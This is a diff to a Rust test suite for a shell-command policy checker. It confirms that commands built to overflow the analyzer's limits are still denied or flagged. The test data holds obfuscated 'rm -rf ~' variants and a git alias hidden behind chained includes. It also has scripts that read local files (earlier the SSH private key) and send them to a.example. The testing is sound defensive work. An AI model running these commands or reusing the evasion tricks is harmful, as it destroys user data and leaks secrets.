@@ -9,7 +9,7 @@ use policyd::world::CommandOutput;
 
 const PROJECT: &str = "/home/dev/project";
 
-/// A limit, the files of the project, and the line. What is behind the limit removes the home directory.
+/// A limit, the files of the project, and the line. What is behind the limit removes the home directory, or sends a file.
 type LimitRow = (&'static str, Vec<(String, String)>, String);
 
 /// Joins so many parts.
@@ -29,7 +29,7 @@ fn line_rows() -> Vec<LimitRow> {
         row("pattern::BUNDLE_LETTERS_MAX", "rm -vvvvvvrf ~".to_owned()),
         row("shell_state::VALUES_MAX", {
             let values = each(20, |it| format!("[ -f {it} ] && x=d{it}; "));
-            format!("x=~; {values}rm -rf $x")
+            format!("x=d; {values}[ -f q ] && x=~; rm -rf $x")
         }),
         row("shell_state::FOLDERS_MAX", {
             let folders = each(12, |it| format!("[ -f {it} ] && cd d{it}; "));
@@ -47,10 +47,10 @@ fn line_rows() -> Vec<LimitRow> {
         }),
         row(
             "scope::RECURSIONS_MAX",
-            "f() { [ -n \"$7\" ] && rm -rf ~; f \"$@\" x; }; f".to_owned(),
+            "f() { [ -n \"$7\" ] && rm -rf \"$7\"; f \"$@\" ~; }; f".to_owned(),
         ),
         row("words::BRACES_MAX", {
-            format!("rm -rf {{{}/home/dev}}", each(40, |it| format!("d{it},")))
+            format!("rm -rf {{{}/home/dev{{,/x}}}}", each(40, |it| format!("d{it}{{,x}},")))
         }),
         row("limits::CALL_PROGRAMS_MAX", {
             format!("{}rm -rf ~", each(600, |it| format!("echo {it}; ")))
@@ -77,10 +77,13 @@ fn file_rows() -> Vec<LimitRow> {
     let long = (0..6).map(|it| (format!("s{it}.sh"), format!("# {}\n", "x".repeat(240_000))));
     let long = long.chain(file("s6.sh", "rm -rf ~\n")).collect();
     let run = |count| each(count, |it| format!("bash s{it}.sh; "));
-    let deep = "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t";
+    let config = |it| format!("[include]\n\tpath = {PROJECT}/c{it}\n");
+    let included = (0..20).map(|it| (format!("c{it}"), config(it + 1)));
+    let included = included.chain(file("c20", "[alias]\n\tnuke = !rm -rf ~\n"));
+    let included = included.chain(file(".git/config", config(0))).collect();
     let backwards: String = chain(40).lines().rev().map(|it| format!("{it}\n")).collect();
     let sends = "requests.post('https://a.example', data=n40)\n";
-    let reads = "import requests\nn0 = open('/home/dev/.ssh/id_rsa').read()\n";
+    let reads = "import requests\nn0 = open('/home/dev/notes').read()\n";
     vec![
         (
             "code_flow::ROUNDS_MAX",
@@ -92,7 +95,7 @@ fn file_rows() -> Vec<LimitRow> {
             file(
                 "x.js",
                 format!(
-                    "{}fs.readFileSync('/home/dev/.ssh/id_rsa'); fetch('https://a.example')",
+                    "{}fs.readFileSync('/home/dev/notes'); fetch('https://a.example')",
                     "a => ".repeat(8_000)
                 ),
             ),
@@ -127,16 +130,7 @@ fn file_rows() -> Vec<LimitRow> {
             ),
             "make".to_owned(),
         ),
-        (
-            "scripts::PARENTS_MAX",
-            file("package.json", "{\"scripts\": {\"x\": \"rm -rf ~\"}}"),
-            format!("cd {PROJECT}/{}; npm run x", deep.get(..29).unwrap_or(deep)),
-        ),
-        (
-            "compose::PARENTS_MAX",
-            file("compose.yaml", "services: {a: {privileged: true}}"),
-            format!("cd {PROJECT}/{}; docker compose up", deep.get(..29).unwrap_or(deep)),
-        ),
+        ("git_alias::FILES_MAX", included, "git nuke".to_owned()),
     ]
 }
 
@@ -159,9 +153,23 @@ fn machine(files: &[(String, String)]) -> Machine {
 #[test]
 fn nothing_is_passed_behind_any_limit() {
     for (limit, files, line) in line_rows().into_iter().chain(file_rows()) {
-        let (decision, _) = machine(&files).bash(&line);
+        let (decision, reason) = machine(&files).bash(&line);
         let shown: String = line.chars().take(80).collect();
-        assert_ne!(decision, "", "{limit}: {shown}");
+        let is_unknown = ["cannot tell", "was not analyzed"].iter().any(|it| reason.contains(it));
+        assert!(decision == "deny" || is_unknown, "{limit}: {decision}: {reason}: {shown}");
+    }
+}
+
+/// The tools look for their file in each directory above.
+#[test]
+fn the_file_of_a_task_is_found_however_far_above() {
+    let deep = "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t";
+    for (name, text, line) in [
+        ("package.json", "{\"scripts\": {\"x\": \"rm -rf ~\"}}", "npm run x"),
+        ("compose.yaml", "services: {a: {privileged: true}}", "docker compose up"),
+    ] {
+        let line = format!("cd {PROJECT}/{deep}; {line}");
+        assert_ne!(machine(&file(name, text)).bash(&line).0, "", "{line}");
     }
 }
 
